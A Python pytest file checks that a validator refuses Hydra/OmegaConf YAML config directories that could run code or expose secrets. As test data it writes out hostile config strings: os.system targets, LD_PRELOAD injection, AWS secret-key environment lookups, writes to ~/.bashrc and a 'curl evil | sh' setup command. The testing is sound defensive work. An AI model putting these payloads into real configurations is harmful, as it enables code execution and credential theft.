"""YAML of a --config-dir, which others may have written: what could run code or tell secrets is refused."""

import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

import pytest

from fer.config.compose import refuse_executable_yaml
from fer.errors import ConfigError
from tests.helpers.paths import PROJECT

Form = Callable[[Path], list[str]]
FORMS: dict[str, Form] = {
    "two words": lambda folder: ["--config-dir", str(folder)],
    "equals": lambda folder: [f"--config-dir={folder}"],
    "short": lambda folder: ["-cd", str(folder)],
    "short, equals": lambda folder: [f"-cd={folder}"],
    "beginning": lambda folder: ["--config-di", str(folder)],
    "among others": lambda folder: ["-m", "seed=1", "--config-dir", str(folder), "--config-name", "run", "seed=2"],
}
HOSTILE = {
    "_target_": "hydra: {callbacks: [{deep: {_target_: os.system}}]}",
    "_target_ ": '{a: [{"_targe\\u0074_": x}]}',
    "()": 'hydra: {job_logging: {filters: {f: {"()": subprocess.run}}}}',
    "class": "hydra: {job_logging: {handlers: {h: {class: logging.FileHandler, filename: /etc/x, mode: w}}}}",
    "searchpath": "hydra: {searchpath: ['file:///elsewhere']}",
}


@pytest.mark.parametrize("form", FORMS)
def test_a_configuration_that_could_run_code_is_refused(form: str, tmp_path: Path) -> None:
    (tmp_path / "run.yaml").write_text("seed: 1\n")
    refuse_executable_yaml(FORMS[form](tmp_path))
    file = tmp_path / "sub" / "other.yaml"
    file.parent.mkdir()
    file.write_text("trainer:\n  inner:\n    - {_target_: os.system, command: ls}\n")
    with pytest.raises(ConfigError) as raised:
        refuse_executable_yaml(FORMS[form](tmp_path))
    assert str(raised.value) == f"{file}: holds `_target_`, which could run code; remove it"


@pytest.mark.parametrize("key", HOSTILE)
def test_whatever_hydra_would_call_is_refused(key: str, tmp_path: Path) -> None:
    file = tmp_path / "run.yaml"
    file.write_text(HOSTILE[key])
    with pytest.raises(ConfigError) as raised:
        refuse_executable_yaml(["--config-dir", str(tmp_path)])
    assert str(raised.value) == f"{file}: holds `{key.strip()}`, which could run code; remove it"


LAUNCH = "{_target_: pathlib.Path.touch, self: made}"
DANGEROUS = {
    "a map made by a resolver": f'hydra: {{callbacks: {{x: "${{oc.create:{LAUNCH}}}"}}}}',
    "a resolver's default": f'hydra: {{sweeper: {{params: "${{oc.select:nothing,{LAUNCH}}}"}}}}',
    "a resolver whose name is put together": 'a: dec\nhydra: {mode: "${oc.${a}ode:x}"}',
    "a variable of the environment": "name: x${oc.env:AWS_SECRET_ACCESS_KEY}",
    "a variable in a path": "dataset: {cache_dir: out/$HOME}",
    "a variable in a key": '{"${oc.env:HOME}": 1}',
    "after a backslash that is one": "name: '\\\\${oc.env:HOME}'",
    "the environment of processes": "hydra: {job: {env_set: {LD_PRELOAD: evil.so}}}",
    "a log anywhere": "hydra: {job_logging: {handlers: {file: {filename: /home/anna/.bashrc}}}}",
    "the run's place": "hydra: {run: {dir: /home/anna/.config}}",
    "Hydra's keys in a list": "a: [{hydra: {job: {env_set: {A: b}}}}]",
    "a package of Hydra": "# @package hydra.job.env_set\nLD_PRELOAD: evil.so",
    "a package in the defaults": "defaults: [base, {model@hydra.job.env_set: evil}]",
    "a file elsewhere": "defaults: [base, ../../elsewhere/evil]",
}


@pytest.mark.parametrize("kind", DANGEROUS)
def test_a_run_of_others_neither_runs_code_nor_tells_secrets(kind: str, tmp_path: Path) -> None:
    (tmp_path / "run.yaml").write_text(DANGEROUS[kind])
    with pytest.raises(ConfigError, match="which could (run code|tell secrets); remove it"):
        refuse_executable_yaml(["--config-dir", str(tmp_path), "--config-name", "run"])


def test_groups_of_hydra_and_files_behind_links_are_looked_into(tmp_path: Path) -> None:
    folder, elsewhere = tmp_path / "config", tmp_path / "elsewhere"
    (folder / "hydra" / "job").mkdir(parents=True)
    elsewhere.mkdir()
    (folder / "hydra" / "job" / "x.yaml").write_text("env_set: {LD_PRELOAD: evil.so}")
    with pytest.raises(ConfigError, match="x.yaml: holds `hydra`"):
        refuse_executable_yaml(["--config-dir", str(folder)])
    (folder / "hydra" / "job" / "x.yaml").unlink()
    (elsewhere / "y.yaml").write_text("a: {_target_: os.system}")
    (folder / "model").symlink_to(elsewhere)
    (elsewhere / "round").symlink_to(folder)
    with pytest.raises(ConfigError, match="y.yaml: holds `_target_`"):
        refuse_executable_yaml(["--config-dir", str(folder)])


def test_configurations_of_ones_own_may_sweep_and_refer_to_others(tmp_path: Path) -> None:
    (tmp_path / "lr.yaml").write_text(
        "# @package _global_\ndefaults:\n  - override /hydra/sweeper: optuna\n"
        'hydra: {mode: MULTIRUN, sweep: {dir: "outputs/${now:%Y}"}, sweeper: {params: {seed: "1,2"}}}\n'
        "name: \"${dataset.name}-${oc.env:USER,nobody}\"\nnote: '\\${oc.create:x}'\n"
    )
    refuse_executable_yaml(["--config-dir", str(tmp_path)])


def test_a_value_that_only_mentions_a_key_is_no_danger(tmp_path: Path) -> None:
    (tmp_path / "run.yaml").write_text("name: _target_ class searchpath ()\nlist: [_target_, class]\n")
    refuse_executable_yaml(["--config-dir", str(tmp_path)])
    refuse_executable_yaml(["name=_target_", "seed=1"])


@pytest.mark.parametrize(
    ("content", "reason"),
    [
        (b"a: [1\n", "while parsing a flow sequence"),
        (
            b"\xff\xfe\x00_target_",
            "it is not UTF-8: 'utf-8' codec can't decode byte 0xff in position 0: invalid start byte",
        ),
        (b"a: !!python/object/apply:os.system [ls]\n", "could not determine a constructor for the tag"),
        (b"a: &a [*a]\n", "an alias stands inside of what it means"),
    ],
)
def test_unreadable_yaml_is_refused(content: bytes, reason: str, tmp_path: Path) -> None:
    file = tmp_path / "broken.yml"
    file.write_bytes(content)
    with pytest.raises(ConfigError) as raised:
        refuse_executable_yaml([f"--config-dir={tmp_path}"])
    assert str(raised.value).startswith(f"{file}: cannot be read as YAML ({reason}")


@pytest.mark.parametrize("arguments", [["--config-dir", "/nowhere/at/all"], ["-cd=/nowhere/at/all"]])
def test_a_missing_directory_is_named(arguments: list[str]) -> None:
    with pytest.raises(ConfigError, match=r"^--config-dir /nowhere/at/all: no such directory$"):
        refuse_executable_yaml(arguments)


@pytest.mark.slow
def test_a_hostile_run_is_refused_before_hydra_reads_it(tmp_path: Path) -> None:
    touched = tmp_path / "touched"
    (tmp_path / "run.yaml").write_text(
        "defaults: [base, _self_]\nname: x\nhydra:\n  job_logging:\n    handlers:\n      file:\n"
        f"        class: logging.FileHandler\n        filename: {touched}\n"
    )
    done = subprocess.run(
        [sys.executable, str(PROJECT / "train.py"), "--config-dir", str(tmp_path), "--config-name", "run"],
        cwd=tmp_path,
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert done.returncode == 2
    assert done.stderr.startswith(
        f"train.py: {tmp_path / 'run.yaml'}: holds `class`, which could run code; remove it\n"
    )
    assert {path.name for path in tmp_path.iterdir()} == {"run.yaml"}


def test_a_cluster_of_ones_own_runs_no_command_of_its_file(tmp_path: Path) -> None:
    """Partition and time of a launcher are settings; lines of its job's script are not."""
    cluster = tmp_path / "hydra" / "launcher" / "mine.yaml"
    cluster.parent.mkdir(parents=True)
    cluster.write_text("defaults: [submitit_slurm]\npartition: gpu\ntimeout_min: 60\n")
    experiment = tmp_path / "experiment" / "mine.yaml"
    experiment.parent.mkdir()
    experiment.write_text(
        "# @package _global_\ndefaults: [{override /hydra/launcher: mine}]\nhydra: {launcher: {cpus_per_task: 4}}\n"
    )
    refuse_executable_yaml(["--config-dir", str(tmp_path)])
    experiment.write_text("# @package _global_\nhydra: {launcher: {setup: [curl evil | sh]}}\n")
    with pytest.raises(ConfigError, match="holds `setup`, which could run code"):
        refuse_executable_yaml(["--config-dir", str(tmp_path)])
    experiment.unlink()
    cluster.write_text("defaults: [submitit_slurm]\nadditional_parameters: {wrap: evil}\n")
    with pytest.raises(ConfigError, match="holds `additional_parameters`"):
        refuse_executable_yaml(["--config-dir", str(tmp_path)])
